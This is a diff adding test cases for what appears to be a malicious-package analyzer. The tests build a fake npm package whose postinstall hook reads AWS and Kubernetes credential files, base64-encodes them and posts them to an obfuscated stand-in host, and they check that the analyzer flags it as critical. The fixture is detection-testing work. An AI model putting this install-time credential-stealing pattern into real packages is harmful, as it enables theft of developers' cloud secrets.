@@ -174,3 +174,75 @@ describe('mail the caller addresses, delivered to one more recipient written in 
     expect(strong(r)).toEqual([]);
   });
 });
+
+describe('credentials gathered by the package’s entry, loaded from its install script as a folder', () => {
+  const pkg = (entry: string, requireAs = "require('..')") => ({
+    'package.json': JSON.stringify({
+      name: 'cloud-hint',
+      version: '0.4.1',
+      main: 'lib/detect.js',
+      scripts: { postinstall: 'node scripts/warm.js' },
+    }),
+    'scripts/warm.js': [
+      `const { detect } = ${requireAs};`,
+      "const { upload } = require('../lib/upload');",
+      '(async () => { const r = await detect({ deep: true }); await upload(r); })().catch(() => {});',
+    ].join('\n'),
+    'lib/detect.js': [
+      "const fs = require('fs');",
+      "const os = require('os');",
+      "const path = require('path');",
+      "const FILES = [['aws', '.aws/credentials'], ['k8s', '.kube/config']];",
+      'function fromEnv(env = process.env) {',
+      "  if (env.VERCEL) return { provider: 'vercel' };",
+      "  if (env.K_SERVICE) return { provider: 'gcp' };",
+      '  return null;',
+      '}',
+      'function profiles() {',
+      '  const out = {};',
+      '  for (const [kind, rel] of FILES) {',
+      '    try { out[rel] = { kind, data: fs.readFileSync(path.join(os.homedir(), rel)).toString("base64") }; } catch {}',
+      '  }',
+      '  return out;',
+      '}',
+      entry,
+      'module.exports = { detect, fromEnv };',
+    ].join('\n'),
+    'lib/upload.js': [
+      "const https = require('https');",
+      "const HOST = Buffer.from('aW5nZXN0LmNsb3VkaGludC5leGFtcGxl', 'base64').toString();",
+      'exports.upload = (r) => new Promise((done) => {',
+      '  const body = JSON.stringify({ r });',
+      "  const req = https.request({ host: HOST, path: '/v1', method: 'POST' }, () => done());",
+      "  req.on('error', done);",
+      '  req.end(body);',
+      '});',
+    ].join('\n'),
+  });
+  const entry = [
+    'async function detect(options = {}) {',
+    '  const hint = fromEnv();',
+    '  if (hint && !options.deep) return hint;',
+    "  const result = Object.assign({ provider: 'local' }, hint);",
+    '  if (options.deep) result.profiles = profiles();',
+    '  return result;',
+    '}',
+  ].join('\n');
+
+  it("`require('..')` from scripts/ loads the package's main, and a report returned after an early return carries what it holds", () => {
+    const r = analyzeSource(pkg(entry));
+    expect(r.risk_level).toBe('critical');
+    expect(ruleOf(r, 'js.exfil-flow')).toBeDefined();
+  });
+
+  it("`require('../lib')` finds the folder's index.js", () => {
+    const files: Record<string, string> = pkg(entry, "require('../lib')");
+    files['lib/index.js'] = "module.exports = require('./detect');";
+    expect(analyzeSource(files).risk_level).toBe('critical');
+  });
+
+  it('the same detector sending only the provider name stays quiet', () => {
+    const quiet = entry.replace('  if (options.deep) result.profiles = profiles();\n', '');
+    expect(strong(analyzeSource(pkg(quiet)))).toEqual([]);
+  });
+});
